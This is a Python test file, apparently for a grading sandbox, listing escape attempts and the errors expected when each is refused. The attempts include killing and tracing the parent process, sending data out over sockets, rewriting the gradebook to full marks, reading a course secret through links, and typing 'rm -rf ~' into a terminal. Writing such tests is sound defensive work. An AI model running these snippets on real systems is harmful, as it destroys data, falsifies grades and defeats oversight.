"""Getting out of the sandbox: processes, network, the file system, the kernel's back doors."""

from __future__ import annotations

from tests.grading.faults.fault import Reach, attack, lie

# In a mount namespace what must not be read is not even there.
REFUSED = "PermissionError|FileNotFoundError"

FAULTS = (
    attack("sys-exit", "ends Python", "import sys; sys.exit(0)", "SystemExit"),
    attack("os-exit", "ends the process at once", "import os; os._exit(0)", "ended its process"),
    lie("exit-in-function", "ends the process when it is called", """
        def one_hot(ids, K):
            import os
            os._exit(0)
        """, "ended the whole process"),
    lie("system-exit-in-function", "raises SystemExit when it is called", """
        def one_hot(ids, K):
            raise SystemExit(0)
        """, "SystemExit"),
    attack("abort", "aborts the process", "import os; os.abort()", "ended its process"),
    attack("segmentation-fault", "reads address 0 through ctypes", "import ctypes; ctypes.string_at(0)",
           "ended its process"),
    attack("kill-itself", "kills its own process", "import os, signal; os.kill(os.getpid(), signal.SIGKILL)",
           f"{REFUSED}|ended its process", ends="it is refused or ends its own process"),
    attack("kill-parent", "kills its parent process", "import os; os.kill(os.getppid(), 9)", REFUSED),
    attack("kill-group", "kills its group of processes", "import os; os.killpg(0, 9)", REFUSED),
    attack("kill-everything", "kills every process that it may", "import os; os.kill(-1, 9)", REFUSED),
    attack("kill-by-raw-call", "kills its parent past Python's own functions", """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        assert libc.kill(os.getppid(), 9) == 0, ctypes.get_errno()
        """, "AssertionError"),
    attack("trace-parent", "attaches to its parent as a debugger", """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        assert libc.ptrace(16, os.getppid(), 0, 0) == 0, ctypes.get_errno()
        """, "AssertionError"),
    attack("write-parents-memory", "writes into its parent's memory",
           "import os; open(f'/proc/{os.getppid()}/mem', 'r+b').write(b'x')", "Error"),
    attack("raise-limits", "raises its own limits", """
        import resource
        resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        """, f"ValueError|{REFUSED}"),
    attack("limits-of-parent", "takes its parent's processor time away", """
        import os, resource
        resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1))
        """, f"OSError|{REFUSED}"),
    attack("subprocess", "starts a program that leaves a file outside", """
        import subprocess
        subprocess.run(["touch", "@outside@/@marker@"], check=True)
        """, REFUSED, Reach.OUTSIDE),
    attack("shell", "asks a shell to leave a file outside", """
        import os
        assert os.system("touch @outside@/@marker@") == 0
        """, f"AssertionError|{REFUSED}", Reach.OUTSIDE),
    attack("python-again", "starts a second Python without any limit", """
        import subprocess, sys
        subprocess.run([sys.executable, "-c", "open('@outside@/@marker@', 'w')"], check=True)
        """, REFUSED, Reach.OUTSIDE),
    attack("pool-of-workers", "hands the work to a pool of processes", """
        import concurrent.futures as futures
        with futures.ProcessPoolExecutor(1) as pool: pool.submit(print).result()
        """, REFUSED),
    attack("daemon", "leaves a process behind that outlives the grading", """
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0: time.sleep(30)
            os._exit(0)
        os.wait()
        """, REFUSED, Reach.PROCESS),
    attack("program-in-memory", "runs a program from a file that has no name", """
        import os
        file = os.memfd_create("x")
        os.write(file, open("/bin/true", "rb").read())
        os.execve(file, ["true"], {})
        """, REFUSED),
    attack("web", "sends what it found over the network", """
        import urllib.request
        urllib.request.urlopen("http://127.0.0.1:@port@/stolen", timeout=1)
        """, "URLError", Reach.NETWORK),
    attack("socket", "opens a connection", """
        import socket
        socket.create_connection(("127.0.0.1", @port@), timeout=1).close()
        """, REFUSED, Reach.NETWORK),
    attack("datagram", "sends a packet without a connection", """
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("127.0.0.1", @udp@))
        """, REFUSED, Reach.NETWORK),
    attack("unix-socket", "talks to a service of this machine through its socket file", """
        import socket
        socket.socket(socket.AF_UNIX).connect("@socket@")
        """, REFUSED, Reach.NETWORK),
    attack("asyncio-connection", "opens a connection with asyncio", """
        import asyncio
        reader, writer = await asyncio.open_connection("127.0.0.1", @port@)
        """, REFUSED, Reach.NETWORK),
    attack("look-up-a-name", "asks for the address of a host, which tells its server",
           "import socket; socket.create_connection(('localhost', @port@), timeout=1)", "Error", Reach.NETWORK),
    attack("write-gradebook", "gives itself full marks in the gradebook", """
        import sqlite3
        with sqlite3.connect("@gradebook@") as gradebook:
            gradebook.execute("update grade set score = 100")
        """, "OperationalError|DatabaseError", Reach.COURSE),
    attack("delete-gradebook", "deletes the gradebook", "import os; os.unlink('@gradebook@')", REFUSED, Reach.COURSE),
    attack("empty-gradebook", "cuts the gradebook to nothing", "import os; os.truncate('@gradebook@', 0)", REFUSED,
           Reach.COURSE),
    attack("rename-submission", "puts its notebook in a classmate's place",
           "import os; os.rename('@victim@', '@victim@.gone')", REFUSED, Reach.COURSE),
    attack("delete-course", "deletes the course", """
        import shutil
        shutil.rmtree("@course@/submitted")
        """, REFUSED, Reach.COURSE),
    attack("open-permissions", "makes the gradebook writable for everybody", """
        import os
        os.chmod("@gradebook@", 0o666)
        """, "", Reach.COURSE),
    attack("link-to-secret", "links a file of its own to the course's secret", """
        import os
        os.symlink("@secret@", "mine")
        print(open("mine").read())
        """, REFUSED, Reach.SECRET),
    attack("hard-link-to-secret", "gives the course's secret a second name", """
        import os
        os.link("@secret@", "mine")
        print(open("mine").read())
        """, f"OSError|{REFUSED}"),
    attack("write-outside", "writes a file outside its folder", "open('@outside@/@marker@', 'w').close()", REFUSED,
           Reach.OUTSIDE),
    attack("write-to-tmp", "writes into the machine's temporary folder", "open('/tmp/@marker@', 'w').close()",
           f"{REFUSED}|FileNotFoundError|OSError", Reach.OUTSIDE),
    attack("write-to-shared-memory", "writes into the machine's shared memory",
           "open('/dev/shm/@marker@', 'w').close()", f"{REFUSED}|FileNotFoundError|OSError", Reach.OUTSIDE),
    attack("startup-file", "leaves a file that every later Python would run", """
        import site
        open(site.getsitepackages()[0] + "/@marker@.pth", "w").close()
        """, "Error", Reach.OUTSIDE),
    attack("change-a-library", "opens NumPy's own files for writing", "open(np.__file__, 'a')", "Error"),
    attack("climb-out", "writes through a chain of parent folders",
           "open('../' * 40 + '@outside@/@marker@', 'w').close()", REFUSED, Reach.OUTSIDE),
    attack("new-root", "changes its root folder and its namespaces", """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        assert libc.unshare(0x10020000) == 0, ctypes.get_errno()
        """, "AssertionError"),
    attack("mount", "mounts a file system", """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        assert libc.mount(b"none", b".", b"tmpfs", 0, None) == 0, ctypes.get_errno()
        """, "AssertionError"),
    attack("io-uring", "opens the kernel's queue that passes system calls by", """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        assert libc.syscall(425, 8, ctypes.create_string_buffer(120)) >= 0, ctypes.get_errno()
        """, "AssertionError"),
    attack("typed-into-terminal", "types a command into the instructor's terminal", """
        import fcntl, termios
        for letter in b"rm -rf ~\\n": fcntl.ioctl(0, termios.TIOCSTI, bytes([letter]))
        """, "OSError"),
    attack("timer-left-behind", "sets an alarm that goes off in the next cells",
           "import signal; signal.setitimer(signal.ITIMER_REAL, 0.05)"),
    attack("hang-up", "closes its connection to the grader", "import os; os.close(3)", "ended its process|interfered"),
    attack("close-everything", "closes every descriptor", "import os; os.closerange(0, 1000)",
           "ended its process|interfered"),
    attack("at-exit", "loops for ever when its process ends", """
        import atexit
        def stay():
            while True: pass
        atexit.register(stay)
        """),
    attack("destructor", "loops for ever when it is collected", """
        import time
        class Stay:
            def __del__(self):
                while True: time.sleep(9)
        Stay()
        """, "took too long"),
)  # fmt: skip
